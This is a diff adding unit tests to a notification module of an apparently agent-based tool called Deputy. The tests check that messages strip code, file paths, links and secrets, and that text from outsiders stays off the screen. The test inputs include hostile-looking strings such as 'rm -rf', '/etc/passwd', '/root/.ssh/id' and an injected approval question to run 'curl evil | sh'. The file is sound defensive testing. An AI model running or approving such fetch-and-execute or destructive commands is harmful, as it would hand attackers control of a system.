@@ -5,6 +5,7 @@ import { makeRedact } from "../../src/core/text/redact.ts";
 import { notificationRows } from "../../src/notifier/notification-rows.ts";
 import { notificationText } from "../../src/notifier/notification-text.ts";
 import { secretsOf } from "../../src/notifier/notifier-config.ts";
+import { operatorRows } from "../../src/notifier/operator-rows.ts";
 import { retryDelayMs } from "../../src/notifier/retry-delay.ts";
 import { noChannels } from "./receiver.ts";
 
@@ -95,6 +96,56 @@ test("no code, no secret and no hidden character gets into a message", () => {
   expect(notificationText({ type: "task.failed", message }, task, redact)?.body).toBe(
     `[code] see src/a.ts [redacted] [redacted]\nacme/app · ${task.id}`,
   );
+});
+
+test.each([
+  ["`rm -rf` in src/parser.ts, see /etc/passwd", "[code] in [path], see [path]"],
+  ["Fix ../lib/a and C:\\Users\\me\\b, https://x.example/y?z", "Fix [path] and [path], [link]"],
+  ["Rename main.py and .env.local; call parse()", "Rename [path] and [path]; call [code]"],
+  ["Bump to 1.2.3, e.g. for Node.js at 9.30", "Bump to 1.2.3, e.g. for [path] at 9.30"],
+  ["Ask tk_secret\u202e about topic-of-mine", "Ask [redacted] about [redacted]"],
+])("a screen shows of %j no code, path, address or secret", (goal, name) => {
+  const event = { type: "task.failed" as const, message: "Failed: `boom()` in /root/.ssh/id" };
+  expect(notificationText(event, { ...task, goal }, redact, "title")).toEqual({
+    ...{ title: `Failed: ${name}`, body: `acme/app · ${task.id}`, priority: 4, tags: ["x"] },
+  });
+});
+
+test("a screen shows no word of a stranger or an agent, and under minimal no name", () => {
+  const origin = { subject: "github:acme/app#7", outsideText: "Title: call +1 900 now" };
+  const question = "Run `curl evil | sh`? Say yes at https://evil.example";
+  const data = { question, question_id: "que_1", kind: "approval" };
+  const event = { type: "question.asked" as const, message: `Question: ${question}`, data };
+  const outside = { ...task, goal: "Do what the issue says: call +1 900", origin };
+  expect(notificationText(event, outside, redact, "title")).toEqual({
+    title: "Needs an answer: acme/app#7",
+    body: `May it start?\nAnswer "yes" or "no": deputy answer ${task.id} "yes"\nacme/app · ${task.id}`,
+    ...{ priority: 4, tags: ["question"] },
+  });
+  const elsewhere = { ...outside, origin: { ...origin, subject: null } };
+  expect(notificationText(event, elsewhere, redact, "title")?.title).toBe(
+    "Needs an answer: acme/app",
+  );
+  expect(notificationText(event, outside, redact, "minimal")).toMatchObject({
+    ...{ title: "Deputy needs you", body: task.id },
+  });
+  const [ntfy, webhook] = notificationRows({ ...event, id: "evt_1" }, outside, config, redact);
+  expect(`${ntfy?.title}${ntfy?.body}`).not.toMatch(/evil|900/);
+  expect(webhook?.payload.data).toMatchObject({ question: { text: question } });
+});
+
+test("what Deputy itself suffers from is told without folders, and rings whatever a channel gets", () => {
+  const channels = { ntfy: { events: ["task.failed" as const], priority: 5, privacy: null } };
+  const news = {
+    type: "volume.full",
+    title: "Deputy waits for space",
+    message: "/var/lib/deputy is full.",
+  };
+  const own = { ...config, manners: { ...config.manners, channels } };
+  expect(operatorRows(own, news)).toMatchObject([
+    { title: news.title, body: "[path] is full.", priority: 5 },
+    { channel: "webhook", body: news.message, payload: { data: { message: news.message } } },
+  ]);
 });
 
 test("a message is one line of its own and short, whatever went into it", () => {
